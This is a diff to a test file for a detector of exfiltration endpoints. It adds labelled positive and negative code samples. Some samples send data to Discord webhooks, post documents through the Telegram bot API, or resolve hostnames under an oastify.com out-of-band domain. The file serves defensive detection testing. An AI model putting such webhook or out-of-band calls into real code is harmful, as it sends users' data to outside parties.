@@ -32,6 +32,11 @@ POSITIVES: list[tuple[str, str]] = [
     ("code/webhook-exfil-endpoint", f'requests.post("{_DISCORD}", json=data)'),
     ("code/webhook-exfil-endpoint", f"HOOK = '{_SLACK}'"),
     ("code/webhook-exfil-endpoint", f"urlopen('{_TELEGRAM}/sendDocument')"),
+    (
+        "code/webhook-exfil-endpoint",
+        "TOKEN = '" + _TELEGRAM.rsplit("bot", 1)[1] + "'\n"
+        "url = f'https://api.telegram.org/bot{TOKEN}/sendMessage'",
+    ),
     ("code/webhook-api-reference", "base = 'https://discordapp.com/api/webhooks/' + hook_id"),
     ("code/webhook-api-reference", "API = 'https://api.telegram.org/bot' + token"),
     ("code/request-catcher-endpoint", "socket.gethostbyname(h + '.abc.oastify.com')"),
@@ -126,6 +131,12 @@ NEGATIVES: list[tuple[str, str]] = [
     ),
     ("code/webhook-exfil-endpoint", "'https://api.telegram.org/bot1234567890:" + "A" * 35 + "'"),
     ("code/webhook-exfil-endpoint", "See https://discord.com/developers/docs for webhooks."),
+    # A bot token with no call of the bot API in the file; a placeholder token.
+    ("code/webhook-exfil-endpoint", "TOKEN = '" + _TELEGRAM.rsplit("bot", 1)[1] + "'"),
+    (
+        "code/webhook-exfil-endpoint",
+        "TOKEN = '1234567890:" + "A" * 35 + "'\nAPI = 'https://api.telegram.org/bot'",
+    ),
     ("code/webhook-api-reference", "DISCORD_URL = 'https://discord.com/invite/abc'"),
     ("code/request-catcher-endpoint", "We use https://webhook.site in the tutorial."),
     ("code/request-catcher-endpoint", "bash interact.sh --help"),
